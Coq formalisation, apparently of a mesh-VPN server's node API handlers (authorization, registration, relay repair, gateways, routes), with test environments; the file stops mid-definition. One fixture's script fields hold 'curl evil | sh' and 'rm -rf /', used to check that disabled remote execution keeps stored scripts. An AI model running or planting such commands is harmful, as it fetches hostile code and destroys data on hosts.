Definition on_ReturnErrorResponse (e : Event) : option ErrorResponse :=
  match e with
  | Ev c _ => match c with ReturnErrorResponse x => Some x | _ => None end
  end.

Definition on_credential_check (e : Event) : option Event :=
  if is_credential_check e then Some e else None.

Definition on_CreateNode (e : Event) : option Node :=
  match e with
  | Ev c _ => match c with CreateNode n => Some n | _ => None end
  end.

Definition on_DeleteNodeByID (e : Event) : option Node :=
  match e with
  | Ev c _ => match c with DeleteNodeByID n _ => Some n | _ => None end
  end.

Definition on_UpdateNode (e : Event) : option (Node * Node) :=
  match e with
  | Ev c _ => match c with UpdateNode a b => Some (a, b) | _ => None end
  end.

Definition on_Go (e : Event) : option Task :=
  match e with
  | Ev c _ => match c with Go t => Some t | _ => None end
  end.

Definition on_PublishPeerUpdate (e : Event) : option Node :=
  match e with
  | Ev c _ => match c with PublishPeerUpdate n => Some n | _ => None end
  end.

Definition on_ServerUpdate (e : Event) : option (Node * bool) :=
  match e with
  | Ev c _ => match c with ServerUpdate n d => Some (n, d) | _ => None end
  end.

Definition on_Encode (e : Event) : option Body :=
  match e with
  | Ev c _ => match c with Encode b => Some b | _ => None end
  end.

Definition on_GetNetworkNodes (e : Event)
    : option (string * (list Node * error)) :=
  match e with
  | Ev c x =>
      match c in Call X return X -> option (string * (list Node * error)) with
      | GetNetworkNodes net => fun x => Some (net, x)
      | _ => fun _ => None
      end x
  end.

(** Requests passed on to the wrapped handler. *)
Definition served (tr : list Event) : list Request := omap on_ServeNext tr.
Definition error_responses (tr : list Event) : list ErrorResponse :=
  omap on_ReturnErrorResponse tr.
Definition credential_checks (tr : list Event) : list Event :=
  omap on_credential_check tr.
(** Nodes handed to [logic.CreateNode] and to [logic.DeleteNodeByID]; pairs
    (current, new) handed to [logic.UpdateNode]. *)
Definition created (tr : list Event) : list Node := omap on_CreateNode tr.
Definition deleted (tr : list Event) : list Node := omap on_DeleteNodeByID tr.
Definition updated (tr : list Event) : list (Node * Node) :=
  omap on_UpdateNode tr.
(** Goroutines started, peer updates published, configuration reloads
    pushed, JSON bodies written, per-network lookups with their answers. *)
Definition spawned (tr : list Event) : list Task := omap on_Go tr.
Definition peer_updates (tr : list Event) : list Node :=
  omap on_PublishPeerUpdate tr.
Definition reloads (tr : list Event) : list (Node * bool) :=
  omap on_ServerUpdate tr.
Definition encoded (tr : list Event) : list Body := omap on_Encode tr.
Definition network_lookups (tr : list Event)
    : list (string * (list Node * error)) :=
  omap on_GetNetworkNodes tr.

(** Modelled from the spec: the error classes of section 7, read off the
    answers this file writes.  The literals carry their HTTP status; the
    helper [formatError] is given the class as its [errType] tag, where
    "badrequest" stands for both the malformed-input and the invalid-state
    class and "internal" for the internal one. *)
Inductive ErrorClass :=
| Unauthenticated | Unauthorized | NotFound | InvalidInput | InvalidState
| Internal.

Definition reports (e : ErrorResponse) (k : ErrorClass) : bool :=
  match e with
  | ErrorResponseLit code _ =>
      match k with
      | Unauthenticated | Unauthorized => Z.eqb code StatusUnauthorized
      | NotFound => Z.eqb code StatusNotFound
      | InvalidInput | InvalidState => Z.eqb code StatusBadRequest
      | Internal => Z.eqb code StatusInternalServerError
      end
  | formatError _ errType =>
      match k with
      | Unauthenticated | Unauthorized => String.eqb errType "unauthorized"
      | NotFound => String.eqb errType "notfound"
      | InvalidInput | InvalidState => String.eqb errType "badrequest"
      | Internal => String.eqb errType "internal"
      end
  end.

(** ** Definitions for: Authorization: master credential (C1) *)

(** The request carries [tok]: the second piece of its Authorization header. *)
Definition carries (r : Request) (tok : string) : Prop :=
  Split (Get (Header r) "Authorization") !! 1 = Some tok.

(** [tok] is a master credential: the user-token check accepts it with the
    admin flag, which is what makes the middleware take the caller for the
    master ("mastermac"). *)
Definition master_credential {W : Type} (env : Env W) (tok : string) : Prop :=
  forall w, exists u nets,
    (env _ (VerifyUserToken tok) w).1 = (u, nets, true, None).

Definition network_exists {W : Type} (env : Env W) (w : W) (r : Request) : bool :=
  (env _ (NetworkExists (Get (Vars r) "network")) w).1.1.

(** A request on [/api/nodes/{network}/{nodeid}] with a bearer token. *)
Definition node_request (tok network nodeid : string) : Request :=
  mkRequest {[ "Authorization" := String.append "Bearer " tok ]}
            (<[ "network" := network ]> {[ "nodeid" := nodeid ]}).

(** The server's network [net1] exists; the master key is "secretkey"; no
    node token is valid. *)
Definition env_master : Env unit :=
  stateless (fun X c =>
    match c in Call X return X with
    | NetworkExists name => (String.eqb name "net1", None)
    | VerifyToken _ => ("", "", "", Some "invalid token")
    | VerifyUserToken tok =>
        if String.eqb tok "secretkey"
        then ("masteradministrator", [], true, None)
        else ("", [], false, Some "invalid token")
    | c' => zero_answer c'
    end).

(** ** Definitions for: Authorization: the [node] scope (C2) *)

(** The server knows the user "bob" by the token "bobtoken": not an admin,
    member of no network; and the node "node-2" by the token "node2token". *)
Definition env_bob : Env unit :=
  stateless (fun X c =>
    match c in Call X return X with
    | NetworkExists name => (String.eqb name "net1", None)
    | VerifyToken tok =>
        if String.eqb tok "node2token" then ("node-2", "", "net1", None)
        else ("", "", "", Some "invalid token")
    | VerifyUserToken tok =>
        if String.eqb tok "bobtoken" then ("bob", [], false, None)
        else ("", [], false, Some "invalid token")
    | c' => zero_answer c'
    end).

(** ** Definitions for: Listing the nodes of a user (C10) *)

(** The node lists of the lookups that succeeded, concatenated in order. *)
Definition gathered (lookups : list (string * (list Node * error))) : list Node :=
  flat_map (fun '(_, (nodes, err)) => if is_nil err then nodes else []) lookups.

(** Two networks of "bob"; the lookup of the first one fails. *)
Definition bob : User := mkUser "bob" ["net1"; "net2"] false.

Definition node_named (id network : string) : Node :=
  mkNode id id network "" "" "" "" "" "" "" "" [] "" "" ""
         (mkTrafficKeys None None) zeroNetwork [].

Definition env_listing : Env unit :=
  stateless (fun X c =>
    match c in Call X return X with
    | GetUser _ => (bob, None)
    | GetNetworkNodes net =>
        if String.eqb net "net1" then ([], Some "storage failure")
        else ([node_named "node-7" net], None)
    | c' => zero_answer c'
    end).

(** ** Definitions for: Deleting a server node (C6) *)

Definition server_node : Node :=
  mkNode "srv-1" "netmaker-1" "net1" "10.0.0.1" "" "" "" "yes" "no" "" "" []
         "" "" "" (mkTrafficKeys None None) zeroNetwork [].

Definition env_server_node : Env unit :=
  stateless (fun X c =>
    match c in Call X return X with
    | GetNodeByID id =>
        if String.eqb id "srv-1" then (server_node, None)
        else (zeroNode, Some "no result found")
    | c' => zero_answer c'
    end).

(** ** Definitions for: Forced propagation (C9) *)

(** The answer of the leader lookup made by the goroutine. *)
Definition leader_lookup {W : Type} (env : Env W) (node : Node) (w : W)
    : Node * error :=
  (env _ (GetNetworkServerLeader (Network_ node))
       (env _ (PublishPeerUpdate node) w).2).1.

(** The leader lookup fails (say the store is unreachable). *)
Definition env_no_leader : Env unit :=
  stateless (fun X c =>
    match c in Call X return X with
    | GetNetworkServerLeader _ => (zeroNode, Some "could not find server leader")
    | c' => zero_answer c'
    end).

(** ** Definitions for: Update with remote command execution disabled (C7) *)

(** The node the handler hands to [logic.UpdateNode] when the setting is off:
    the decoded patch with the two script fields taken from the stored node. *)
Definition gated_patch (node patch : Node) : Node :=
  set_PostUp (PostUp node) (set_PostDown (PostDown node) patch).

Definition stored_node : Node :=
  mkNode "node-1" "alpha" "net1" "10.0.0.2" "" "" "" "no" "no" "no" "no" []
         "echo up" "echo down" "" (mkTrafficKeys None None) zeroNetwork [].

Definition patch_node : Node :=
  mkNode "node-1" "alpha-renamed" "net1" "10.0.0.2" "" "" "" "no" "no" "no" "no"
         [] "curl evil | sh" "rm -rf /" "" (mkTrafficKeys None None)
         zeroNetwork [("mtu", "1280")].

Definition env_update (rce : bool) : Env unit :=
  stateless (fun X c =>
    match c in Call X return X with
    | GetNodeByID _ => (stored_node, None)
    | DecodeNode => (patch_node, None)
    | GetRce => rce
    | c' => zero_answer c'
    end).

(** ** Definitions for: Registration: the access-key gate and the traffic keys (C5, C8) *)

Definition key_invalid_response : ErrorResponse :=
  ErrorResponseLit StatusUnauthorized "W1R3: Key invalid, or none provided.".

(** The decoded node placed on the path network, and the node handed to
    [logic.CreateNode] once it is through the gate. *)
Definition draft_on_network (r : Request) (draft : Node) (settings : Network)
    : Node :=
  set_NetworkSettings settings (set_Network (Get (Vars r) "network") draft).

Definition registered_node (skey : option string) (gated : Node) : Node :=
  set_TrafficKeys (mkTrafficKeys (Mine (TrafficKeys_ gated)) skey) gated.

(** Both traffic keys are there. *)
Definition keys_present (draft : Node) (skey : option string) (keyErr : error)
    : Prop :=
  keyErr = None /\ skey <> None /\ Mine (TrafficKeys_ draft) <> None.

(** One of them is missing, or the server's key could not be read. *)
Definition key_absent (draft : Node) (skey : option string) (keyErr : error)
    : Prop :=
  keyErr <> None \/ skey = None \/ Mine (TrafficKeys_ draft) = None.

(** A server with the network [net1], whose one access key is "goodkey";
    [manual] is the network's manual-signup flag, [skey] the server's public
    traffic key, [draft] the node in the request body. *)
Definition net1 (manual : string) : Network :=
  mkNetwork "net1" [mkAccessKey "goodkey"] manual 0%Z.

Definition env_register (draft : Node) (manual : string) (skey : option string)
    : Env unit :=
  stateless (fun X c =>
    match c in Call X return X with
    | NetworkExists name => (String.eqb name "net1", None)
    | DecodeNode => (draft, None)
    | GetNetworkByNode _ => (net1 manual, None)
    | GetNetworkSettings _ => (net1 manual, None)
    | IsKeyValid _ key => String.eqb key "goodkey"
    | RetrievePublicTrafficKey => (skey, None)
    | c' => zero_answer c'
    end).

Definition joining_node (key pending : string) (mine : option string) : Node :=
  mkNode "" "laptop" "" "" "" "pw" key "" pending "" "" [] "" "" ""
         (mkTrafficKeys mine None) zeroNetwork [].

Definition register_request : Request :=
  mkRequest {[ "Authorization" := "Bearer goodkey" ]} {[ "network" := "net1" ]}.

(** ** Definitions for: Relay-address repair (C3, C4)

    What the two loops of [updateRelay] do to the contents of the relay's
    list, stated on lists. *)

(** One loop over the indices [idx]: an entry equal to [key], read at the
    moment its index comes up, is cut out and [value] is put at the end, so
    the entries behind it move one place down while the index moves on. *)
Fixpoint splice_list (key value : string) (idx : list nat) (l : list string)
    : list string :=
  match idx with
  | [] => l
  | i :: idx' =>
      let l' :=
        match l !! i with
        | Some ip => if String.eqb ip key then delete i l ++ [value] else l
        | None => l
        end in
      splice_list key value idx' l'
  end.

Definition repair_list (oldnode newnode : Node) (l : list string) : list string :=
  let l :=
    if negb (String.eqb (Address oldnode) (Address newnode))
    then splice_list (Address oldnode) (Address newnode) (seq 0 (length l)) l
    else l in
  if negb (String.eqb (Address6 oldnode) (Address6 newnode))
  then splice_list (Address oldnode) (Address6 newnode) (seq 0 (length l)) l
  else l.

(** The relay object in memory: one array of [c] cells whose first cells are
    the list [l], one node object whose slice spans them. *)
Definition holds (m : Mem) (node : Node) (l : list string) (c : nat) : Prop :=
  exists a,
    arrays m = [a] /\ objs m = [(node, mkSlice 0 0 (length l) c)] /\
    length a = c /\ take (length l) a = l.

(** ** Definitions for: the repair at concrete relays *)

Definition relay_node (addrs : list string) : Node :=
  mkNode "relay-r" "relay" "net1" "10.0.0.1" "" "" "" "no" "no" "yes" "no" addrs
         "" "" "" (mkTrafficKeys None None) zeroNetwork [].

Definition relayed_node (addr addr6 : string) : Node :=
  mkNode "node-x" "x" "net1" addr addr6 "" "" "no" "no" "no" "yes" [] "" "" ""
         (mkTrafficKeys None None) zeroNetwork [].

(** The store holds one relay record: [FindRelay] finds it for every node
    (with no spare capacity in its list) and [UpdateNode] replaces it. *)
Definition env_relay_store : Env Node :=
  fun X c =>
    match c in Call X return Node -> X * Node with
    | FindRelay _ => fun relay => (Some (relay, 0), relay)
    | UpdateNode cur new => fun _ => ((cur, new, None), new)
    | c' => fun relay => (zero_answer c', relay)
    end.

(** The relay's target list after the repair has run on the stored relay. *)
Definition repaired (times : nat) (oldnode newnode : Node) (addrs : list string)
    : list string :=
  RelayAddrs
    (final (run env_relay_store
              (for_each (replicate times tt)
                 (fun _ => updateRelay oldnode newnode))
              (relay_node addrs))).

(** * The other handlers of the file *)

(** ** Reading nodes ([getNetworkNodes], lines 294-312; [getNode], lines
       357-384) *)

Definition getNetworkNodes (r : Request) : Prog unit :=
  call (SetResponseHeader "Content-Type" "application/json");;
  let params := Vars r in
  let networkName := Get params "network" in
  '(nodes, err) ← call (GetNetworkNodes networkName);
  if negb (is_nil err) then
    call (ReturnErrorResponse (formatError err "internal"))
  else
    call (WriteHeader StatusOK);;
    call (Encode (BodyNodes nodes)).

Definition getNode (r : Request) : Prog unit :=
  call (SetResponseHeader "Content-Type" "application/json");;
  let params := Vars r in
  '(node, err) ← call (GetNodeByID (Get params "nodeid"));
  if negb (is_nil err) then
    call (ReturnErrorResponse (formatError err "internal"))
  else
    '(peerUpdate, err) ← call (GetPeerUpdate node);
    empty ← (if negb (is_nil err) then call (IsEmptyRecord err) else mret true);
    if negb (is_nil err) && negb empty then
      call (ReturnErrorResponse (formatError err "internal"))
    else
      info ← call GetServerInfo;
      let response := mkNodeGet node (Peers peerUpdate) info in
      call (WriteHeader StatusOK);;
      call (Encode (BodyNodeGet response)).

(** ** Calls of the remaining handlers

    [authenticate], [nodeauth], [getLastModified], [uncordonNode] and the
    gateway handlers call collaborators the handlers above do not use.
    [Call2] adds them to [Call]; programs, environments, events and runs
    over [Call2] are built like the ones over [Call]. *)

Record AuthParams := mkAuthParams {
  AP_ID : string;          (* field ID *)
  AP_Password : string;    (* field Password *)
  AP_MacAddress : string   (* field MacAddress *)
}.

Record SuccessfulLoginResponse := mkSuccessfulLoginResponse {
  AuthToken : string;
  SLR_ID : string          (* field ID *)
}.

Record SuccessResponse := mkSuccessResponse {
  SR_Code : Z;
  SR_Message : string;
  SR_Response : SuccessfulLoginResponse
}.

Record EgressGatewayRequest := mkEgressGatewayRequest {
  EG_NodeID : string;      (* field NodeID *)
  EG_NetID : string;       (* field NetID *)
  EG_Other : list (string * string)  (* the attributes this file never names *)
}.

Inductive Call2 : Type -> Type :=
| Base {X : Type} (c : Call X) : Call2 X
(* package logic *)
| GetNetworks : Call2 (list Network * error)
| GetNetwork (name : string) : Call2 (Network * error)
| UncordonNode (id : string) : Call2 (Node * error)
| CreateEgressGateway (g : EgressGatewayRequest) : Call2 (Node * error)
| DeleteEgressGateway (netid nodeid : string) : Call2 (Node * error)
| CreateIngressGateway (netid nodeid : string) : Call2 (Node * error)
| DeleteIngressGateway (netid nodeid : string) : Call2 (Node * error)
| CreateJWT (id mac network : string) : Call2 (string * error)
(* golang.org/x/crypto/bcrypt *)
| CompareHashAndPassword (hash password : string) : Call2 error
(* encoding/json and the response writer *)
| DecodeAuthParams : Call2 (AuthParams * error)
| DecodeEgressGatewayRequest : Call2 (EgressGatewayRequest * error)
| Marshal (v : SuccessResponse) : Call2 (string * error)
| Write (bytes : string) : Call2 unit.

Inductive Prog2 (A : Type) : Type :=
| Ret2 (a : A)
| Panic2 (msg : string)
| Vis2 {X : Type} (c : Call2 X) (k : X -> Prog2 A).

Arguments Ret2 {A} a.
Arguments Panic2 {A} msg.
Arguments Vis2 {A X} c k.

Fixpoint bind2 {A B : Type} (p : Prog2 A) (f : A -> Prog2 B) : Prog2 B :=
  match p with
  | Ret2 a => f a
  | Panic2 msg => Panic2 msg
  | Vis2 c k => Vis2 c (fun x => bind2 (k x) f)
  end.

#[export] Instance Prog2_ret : MRet Prog2 := @Ret2.
#[export] Instance Prog2_bind : MBind Prog2 := fun A B f p => bind2 p f.

Definition call2 {X : Type} (c : Call2 X) : Prog2 X := Vis2 c Ret2.

(** A call of the first kind, made by a handler of the second kind. *)
Definition base {X : Type} (c : Call X) : Prog2 X := Vis2 (Base c) Ret2.

Definition skip2 : Prog2 unit := Ret2 tt.

(** A program over [Call] as a program over [Call2]. *)
Fixpoint lift {A : Type} (p : Prog A) : Prog2 A :=
  match p with
  | Ret a => Ret2 a
  | Panic msg => Panic2 msg
  | Vis c k => Vis2 (Base c) (fun x => lift (k x))
  end.

Definition Env2 (W : Type) : Type := forall X : Type, Call2 X -> W -> X * W.

Inductive Event2 : Type :=
| Ev2 {X : Type} (c : Call2 X) (x : X).

Record Outcome2 (W A : Type) := mkOutcome2 {
  result2 : option A;
  final2 : W;
  trace2 : list Event2
}.
Arguments mkOutcome2 {W A}.
Arguments result2 {W A}.
Arguments final2 {W A}.
Arguments trace2 {W A}.

Fixpoint run2 {W A : Type} (env : Env2 W) (p : Prog2 A) (w : W) : Outcome2 W A :=
  match p with
  | Ret2 a => mkOutcome2 (Some a) w []
  | Panic2 _ => mkOutcome2 None w []
  | Vis2 c k =>
      let '(x, w') := env _ c w in
      let o := run2 env (k x) w' in
      mkOutcome2 (result2 o) (final2 o) (Ev2 c x :: trace2 o)
  end.

(** The part of an environment that answers the calls of the first kind, and
    the events of the first kind in a trace. *)
Definition base_env {W : Type} (env : Env2 W) : Env W :=
  fun X c w => env X (Base c) w.

Definition base_event (e : Event2) : option Event :=
  match e with
  | Ev2 c x =>
      match c in Call2 X return X -> option Event with
      | Base c' => fun x => Some (Ev c' x)
      | _ => fun _ => None
      end x
  end.

Definition base_events (tr : list Event2) : list Event := omap base_event tr.

(** ** Node login ([authenticate], lines 39-115)

    [err.Error()] on a nil error is a nil-pointer dereference.  The deferred
    [request.Body.Close()] is not embedded. *)

Definition Error (err : error) : Prog2 string :=
  match err with
  | Some msg => Ret2 msg
  | None => Panic2 "invalid memory address or nil pointer dereference"
  end.

Definition badRequest (msg : string) : Prog2 unit :=
  base (ReturnErrorResponse (ErrorResponseLit StatusBadRequest msg)).

Definition authenticate : Prog2 unit :=
  '(authRequest, decoderErr) ← call2 DecodeAuthParams;
  if negb (is_nil decoderErr) then
    msg ← Error decoderErr; badRequest msg
  else if String.eqb (AP_ID authRequest) "" then
    badRequest "W1R3: ID can't be empty"
  else if String.eqb (AP_Password authRequest) "" then
    badRequest "W1R3: Password can't be empty"
  else
    '(result, err) ← base (GetNodeByID (AP_ID authRequest));
    if negb (is_nil err) then
      msg ← Error err; badRequest msg
    else
      err ← call2 (CompareHashAndPassword (Password result)
                     (AP_Password authRequest));
      if negb (is_nil err) then
        msg ← Error err; badRequest msg
      else
        '(tokenString, _) ← call2 (CreateJWT (AP_ID authRequest)
                                     (AP_MacAddress authRequest)
                                     (Network_ result));
        if String.eqb tokenString "" then
          badRequest "Could not create Token"
        else
          let successResponse :=
            mkSuccessResponse StatusOK
              (String.append "W1R3: Device "
                 (String.append (AP_ID authRequest) " Authorized"))
              (mkSuccessfulLoginResponse tokenString (AP_ID authRequest)) in
          '(successJSONResponse, jsonError) ← call2 (Marshal successResponse);
          if negb (is_nil jsonError) then
            msg ← Error err; badRequest msg
          else
            base (WriteHeader StatusOK);;
            base (SetResponseHeader "Content-Type" "application/json");;
            call2 (Write successJSONResponse).

(** ** Access-key middleware ([nodeauth], lines 118-160)

    The inner loop stops at the first key that equals the token; the outer
    loop goes on over the remaining networks. *)

Fixpoint nodeauth_keys (keys : list AccessKey) (token : string) (found : bool)
    : bool :=
  match keys with
  | [] => found
  | key :: rest =>
      if String.eqb (Value key) token then true
      else nodeauth_keys rest token found
  end.

Fixpoint nodeauth_networks (networks : list Network) (token : string)
    (found : bool) : bool :=
  match networks with
  | [] => found
  | network :: rest =>
      nodeauth_networks rest token
        (nodeauth_keys (AccessKeys network) token found)
  end.

Definition nodeauth (r : Request) : Prog2 unit :=
  let bearerToken := Get (Header r) "Authorization" in
  let tokenSplit := Split bearerToken in
  if length tokenSplit <? 2 then
    base (ReturnErrorResponse
            (ErrorResponseLit StatusUnauthorized
               "W1R3: You are unauthorized to access this endpoint."))
  else
    let token := nth 1 tokenSplit "" in
    let found := false in
    '(networks, err) ← call2 GetNetworks;
    if negb (is_nil err) then
      base (ReturnErrorResponse (ErrorResponseLit StatusNotFound "no networks"))
    else
      let found := nodeauth_networks networks token found in
      if negb found then
        base (ReturnErrorResponse
                (ErrorResponseLit StatusUnauthorized
                   "You are unauthorized to access this endpoint."))
      else base (ServeNext r).

(** ** Last modification, approval and gateways ([getLastModified], lines
       390-403; [uncordonNode], lines 509-523; lines 527-604) *)

Definition internalError (err : error) : Prog2 unit :=
  base (ReturnErrorResponse (formatError err "internal")).

Definition getLastModified (r : Request) : Prog2 unit :=
  base (SetResponseHeader "Content-Type" "application/json");;
  let params := Vars r in
  '(network, err) ← call2 (GetNetwork (Get params "network"));
  if negb (is_nil err) then internalError err
  else
    base (WriteHeader StatusOK);;
    base (Encode (BodyInt (NodesLastModified network))).

Definition uncordonNode (r : Request) : Prog2 unit :=
  let params := Vars r in
  base (SetResponseHeader "Content-Type" "application/json");;
  let nodeid := Get params "nodeid" in
  '(node, err) ← call2 (UncordonNode nodeid);
  if negb (is_nil err) then internalError err
  else
    base (WriteHeader StatusOK);;
    base (Encode (BodyString "SUCCESS"));;
    lift (runUpdates node false).

Definition createEgressGateway (r : Request) : Prog2 unit :=
  let params := Vars r in
  base (SetResponseHeader "Content-Type" "application/json");;
  '(gateway, err) ← call2 DecodeEgressGatewayRequest;
  if negb (is_nil err) then internalError err
  else
    let gateway :=
      mkEgressGatewayRequest (EG_NodeID gateway) (Get params "network")
                             (EG_Other gateway) in
    let gateway :=
      mkEgressGatewayRequest (Get params "nodeid") (EG_NetID gateway)
                             (EG_Other gateway) in
    '(node, err) ← call2 (CreateEgressGateway gateway);
    if negb (is_nil err) then internalError err
    else
      base (WriteHeader StatusOK);;
      base (Encode (BodyNode node));;
      lift (runUpdates node true).

Definition deleteEgressGateway (r : Request) : Prog2 unit :=
  base (SetResponseHeader "Content-Type" "application/json");;
  let params := Vars r in
  let nodeid := Get params "nodeid" in
  let netid := Get params "network" in
  '(node, err) ← call2 (DeleteEgressGateway netid nodeid);
  if negb (is_nil err) then internalError err
  else
    base (WriteHeader StatusOK);;
    base (Encode (BodyNode node));;
    lift (runUpdates node true).

Definition createIngressGateway (r : Request) : Prog2 unit :=
  let params := Vars r in
  base (SetResponseHeader "Content-Type" "application/json");;
  let nodeid := Get params "nodeid" in
  let netid := Get params "network" in
  '(node, err) ← call2 (CreateIngressGateway netid nodeid);
  if negb (is_nil err) then internalError err
  else
    base (WriteHeader StatusOK);;
    base (Encode (BodyNode node));;
    lift (runUpdates node true).

Definition deleteIngressGateway (r : Request) : Prog2 unit :=
  base (SetResponseHeader "Content-Type" "application/json");;
  let params := Vars r in
  let nodeid := Get params "nodeid" in
  '(node, err) ← call2 (DeleteIngressGateway (Get params "network") nodeid);
  if negb (is_nil err) then internalError err
  else
    base (WriteHeader StatusOK);;
    base (Encode (BodyNode node));;
    lift (runUpdates node true).

(** ** The routes ([nodeHandlers], lines 20-37)

    [next.ServeHTTP(w, r)] in a middleware runs the wrapped handler on [r]:
    [with_next next p] is [p] with every such call replaced by [next r]. *)

Fixpoint with_next {A : Type} (next : Request -> Prog2 unit) (p : Prog2 A)
    : Prog2 A :=
  match p with
  | Ret2 a => Ret2 a
  | Panic2 msg => Panic2 msg
  | Vis2 c k =>
      match c in Call2 X return (X -> Prog2 A) -> Prog2 A with
      | Base c0 =>
          match c0 in Call X return (X -> Prog2 A) -> Prog2 A with
          | ServeNext r => fun k' => bind2 (next r) (fun _ => k' tt)
          | c1 => fun k' => Vis2 (Base c1) k'
          end
      | c2 => fun k' => Vis2 c2 k'
      end (fun x => with_next next (k x))
  end.

(** [authorize(nodesAllowed, networkCheck, authNetwork, handler)] and
    [nodeauth(handler)] as handlers. *)
Definition authorized (nodesAllowed networkCheck : bool) (authNetwork : string)
    (handler : Request -> Prog2 unit) (r : Request) : Prog2 unit :=
  with_next handler (lift (authorize nodesAllowed networkCheck authNetwork r)).

Definition nodeauthed (handler : Request -> Prog2 unit) (r : Request)
    : Prog2 unit :=
  with_next handler (nodeauth r).

(** The table of [nodeHandlers]: method, path pattern, handler.  The two
    ingress routes are wrapped by [securityCheck], which is declared in
    another file of the package, and the two relay routes run handlers
    declared in another file; these four are left out. *)
Definition nodeHandlers : list (string * string * (Request -> Prog2 unit)) :=
  [ ("GET", "/api/nodes",
      authorized false false "user" (fun r => lift (getAllNodes r)));
    ("GET", "/api/nodes/{network}",
      authorized false true "network" (fun r => lift (getNetworkNodes r)));
    ("GET", "/api/nodes/{network}/{nodeid}",
      authorized true true "node" (fun r => lift (getNode r)));
    ("PUT", "/api/nodes/{network}/{nodeid}",
      authorized false true "node" (fun r => lift (updateNode r)));
    ("DELETE", "/api/nodes/{network}/{nodeid}",
      authorized true true "node" (fun r => lift (deleteNode r)));
    ("POST", "/api/nodes/{network}/{nodeid}/creategateway",
      authorized false true "user" createEgressGateway);
    ("DELETE", "/api/nodes/{network}/{nodeid}/deletegateway",
      authorized false true "user" deleteEgressGateway);
    ("POST", "/api/nodes/{network}/{nodeid}/approve",
      authorized false true "user" uncordonNode);
    ("POST", "/api/nodes/{network}",
      nodeauthed (fun r => lift (createNode r)));
    ("GET", "/api/nodes/adm/{network}/lastmodified",
      authorized false true "network" getLastModified);
    ("POST", "/api/nodes/adm/{network}/authenticate",
      fun _ => authenticate) ].

(** * Vocabulary of the further statements *)

(** ** Outcomes of a middleware

    The handler is run, once, on [r'] and no error is written; or one error
    is written and the handler is not run. *)
Definition passes {W : Type} (o : Outcome W unit) (r' : Request) : Prop :=
  result o = Some tt /\ served (trace o) = [r'] /\
  error_responses (trace o) = [].

Definition rejects {W : Type} (o : Outcome W unit) (e : ErrorResponse) : Prop :=
  result o = Some tt /\ served (trace o) = [] /\
  error_responses (trace o) = [e].

Definition one_outcome {W : Type} (o : Outcome W unit) : Prop :=
  (exists r', passes o r') \/
  (exists e, rejects o e /\
             reports e Unauthorized || reports e NotFound = true).

(** The request with the user name attached (lines 283-286). *)
Definition user_header (username : string) (r : Request) : Request :=
  HeaderSet "user"
    (if String.eqb username "" then "(user not found)" else username) r.

Definition not_authorized : ErrorResponse :=
  ErrorResponseLit StatusUnauthorized
    "W1R3: You are unauthorized to access this endpoint.".

Definition missing_token : ErrorResponse :=
  ErrorResponseLit StatusUnauthorized "W1R3: Missing Auth Token.".

Definition invalid_token : ErrorResponse :=
  ErrorResponseLit StatusUnauthorized
    "W1R3: Unauthorized, Invalid Token Processed.".

(** The user of a token is a member of the path network (lines 232-236). *)
Definition member (networks : list string) (r : Request) : bool :=
  negb (String.eqb (Get (Vars r) "network") "")
  && StringSliceContains networks (Get (Vars r) "network").

(** More readers of traces. *)
Definition on_GetNodeByID (e : Event) : option string :=
  match e with
  | Ev c _ => match c with GetNodeByID id => Some id | _ => None end
  end.

Definition node_lookups (tr : list Event) : list string := omap on_GetNodeByID tr.

(** The request carries no token: its Authorization header has no second
    piece. *)
Definition no_token (r : Request) : Prop :=
  Split (Get (Header r) "Authorization") !! 1 = None.

(** What the two verifiers answer for a token, in every state. *)
Definition node_token_fails {W : Type} (env : Env W) (tok : string) : Prop :=
  forall w, (env _ (VerifyToken tok) w).1.2 <> None.

Definition node_token_verifies {W : Type} (env : Env W) (tok : string) : Prop :=
  forall w, (env _ (VerifyToken tok) w).1.2 = None.

Definition user_token_fails {W : Type} (env : Env W) (tok : string) : Prop :=
  forall w, (env _ (VerifyUserToken tok) w).1.2 <> None.

(** [tok] is the token of the user [u], who is not an admin and has the
    network list [nets]. *)
Definition plain_user {W : Type} (env : Env W) (tok u : string)
    (nets : list string) : Prop :=
  forall w, (env _ (VerifyUserToken tok) w).1 = (u, nets, false, None).

(** The network check of a route lets the request through. *)
Definition network_ok {W : Type} (env : Env W) (w : W) (networkCheck : bool)
    (r : Request) : Prop :=
  networkCheck && negb (network_exists env w r) = false.

Definition on_GetAllNodes (e : Event) : option unit :=
  match e with
  | Ev c _ => match c with GetAllNodes => Some tt | _ => None end
  end.

Definition on_ReturnSuccessResponse (e : Event) : option string :=
  match e with
  | Ev c _ => match c with ReturnSuccessResponse msg => Some msg | _ => None end
  end.

Definition on_UpdateRelay (e : Event)
    : option (string * list string * list string) :=
  match e with
  | Ev c _ =>
      match c with UpdateRelay net old new => Some (net, old, new) | _ => None end
  end.

Definition on_FindRelay (e : Event) : option Node :=
  match e with
  | Ev c _ => match c with FindRelay n => Some n | _ => None end
  end.

Definition on_NodeUpdate (e : Event) : option Node :=
  match e with
  | Ev c _ => match c with NodeUpdate n => Some n | _ => None end
  end.

Definition on_WriteHeader (e : Event) : option Z :=
  match e with
  | Ev c _ => match c with WriteHeader code => Some code | _ => None end
  end.

(** Listings of all nodes asked for, success answers written, relay updates
    asked of [logic.UpdateRelay], relays looked for, node updates published,
    status codes written. *)
Definition all_nodes_listings (tr : list Event) : list unit :=
  omap on_GetAllNodes tr.
Definition success_responses (tr : list Event) : list string :=
  omap on_ReturnSuccessResponse tr.
Definition relay_updates (tr : list Event)
    : list (string * list string * list string) :=
  omap on_UpdateRelay tr.
Definition relay_lookups (tr : list Event) : list Node := omap on_FindRelay tr.
Definition node_updates (tr : list Event) : list Node := omap on_NodeUpdate tr.
Definition status_codes (tr : list Event) : list Z := omap on_WriteHeader tr.

(** The store answers the lookup of the empty node ID with a node of the
    network [net1]. *)
Definition env_empty_id : Env unit :=
  stateless (fun X c =>
    match c in Call X return X with
    | NetworkExists name => (String.eqb name "net1", None)
    | VerifyUserToken tok =>
        if String.eqb tok "bobtoken" then ("bob", [], false, None)
        else ("", [], false, Some "invalid token")
    | GetNodeByID id =>
        if String.eqb id "" then (node_named "" "net1", None)
        else (zeroNode, Some "no result found")
    | c' => zero_answer c'
    end).

(** The store holds three nodes; the user "bob" is known, "mallory" is not. *)
Definition all_nodes : list Node :=
  [node_named "node-1" "net1"; node_named "node-2" "net1";
   node_named "node-3" "net2"].

Definition env_all_nodes : Env unit :=
  stateless (fun X c =>
    match c in Call X return X with
    | GetUser name =>
        if String.eqb name "bob" then (bob, None)
        else (zeroUser, Some "could not find any records")
    | GetAllNodes => (all_nodes, None)
